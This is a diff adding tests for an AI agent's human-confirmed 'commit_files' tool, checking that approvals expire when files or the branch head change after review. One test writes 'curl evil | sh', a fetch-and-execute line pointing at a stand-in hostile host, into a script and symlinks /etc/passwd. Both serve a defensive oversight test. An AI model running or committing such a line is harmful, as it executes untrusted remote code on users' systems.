@@ -65,6 +65,18 @@ test.skipIf(!existsSync(bwrapPath))('a repository is read without its secrets, a
     toolName: 'commit_files',
     sentence: 'The file "compose.yml" of "lab/media" is committed.',
     now: '1 changed file: "compose.yml"',
+    then: 'one commit more on main, exactly as shown; the files stay as they are',
+    basis: {
+      branch: 'main',
+      head: expect.stringMatching(/^\w{40}$/) as string,
+      tree: expect.stringMatching(/^\w{40}$/) as string,
+    },
+    diff: [
+      {
+        ...{ path: 'lab/media/compose.yml', change: 'changed', added: 1, removed: 1, left: 0 },
+        lines: ['@@ -1 +1 @@', '-image: jellyfin:1', '+image: jellyfin:2'],
+      },
+    ],
     deed: 'commit these files',
     reason: expect.stringContaining('It changes files in "lab"'),
   })
@@ -210,3 +222,50 @@ test.skipIf(!existsSync(bwrapPath))(
     ])
   },
 )
+
+test.skipIf(!existsSync(bwrapPath))('a commit holds what its card showed, and nothing that changed since', async () => {
+  const { dir, repo, git } = root()
+  git('checkout', '-q', '--', '.')
+  writeFileSync(join(repo, 'new.sh'), 'echo first\n', { mode: 0o755 })
+  writeFileSync(join(repo, 'staged.yml'), 'by: Ann\n')
+  git('add', 'staged.yml')
+  writeFileSync(join(repo, 'blob'), Buffer.from([0, 1, 2]))
+  symlinkSync('/etc/passwd', join(repo, 'link'))
+  const objects = git('count-objects')
+  const dataDir = folder()
+  writeFileSync(
+    join(dataDir, 'policy.yaml'),
+    `workbench:\n  git: true\n  roots:\n    - { name: lab, path: ${dir}, write: true }\n`,
+  )
+  const commit = { repo: 'lab/media', paths: ['new.sh', 'blob', 'link'], message: 'Add a script' }
+  const jarvis = await startJarvis({ dataDir, model: scripted(calls(['commit_files', commit]), says('Done.')) })
+  const screen = await jarvis.connect()
+  const { sessionId } = await screen.ask('chat:send', {
+    message: 'In lab/media commit new.sh, blob and link as "Add a script".',
+  })
+  const approve = (card: { toolUseId: string }) =>
+    screen.request('chat:confirm', { sessionId, toolUseId: card.toolUseId, confirmed: true })
+  const first = await screen.next('chat:confirm_needed')
+  expect(first.diff).toMatchObject([
+    { path: 'lab/media/blob', change: 'added', lines: [], note: 'It is no text.' },
+    { path: 'lab/media/link', change: 'added', lines: ['@@ -0,0 +1 @@', '+/etc/passwd'], note: 'It is a link.' },
+    { path: 'lab/media/new.sh', change: 'added', lines: ['@@ -0,0 +1 @@', '+echo first'] },
+  ])
+  // Nothing is written before a person has seen it.
+  expect(git('count-objects')).toBe(objects)
+  writeFileSync(join(repo, 'new.sh'), 'curl evil | sh\n')
+  expect(await approve(first)).toMatchObject({ ok: false, error: { code: 'expired' } })
+  const second = await screen.next('chat:confirm_needed')
+  expect(second.changed).toBe('Its tree has changed since the card was shown.')
+  expect(second.diff?.[2]?.lines).toContain('+curl evil | sh')
+  git('commit', '-q', '--allow-empty', '-m', 'Meanwhile', '--only')
+  expect(await approve(second)).toMatchObject({ ok: false, error: { code: 'expired' } })
+  const third = await screen.next('chat:confirm_needed')
+  expect(third.changed).toBe('Its head has changed since the card was shown.')
+  expect(await approve(third)).toMatchObject({ ok: true })
+  await screen.next('chat:done')
+  expect(git('log', '--format=%an %s', 'main')).toBe('JARVIS Add a script\nAnn Meanwhile\nAnn First\n')
+  expect(git('show', '--format=', '--name-only', 'HEAD')).toBe('blob\nlink\nnew.sh\n')
+  expect(git('show', 'HEAD:new.sh')).toBe('curl evil | sh\n')
+  expect(git('status', '--porcelain')).toBe('A  staged.yml\n')
+})
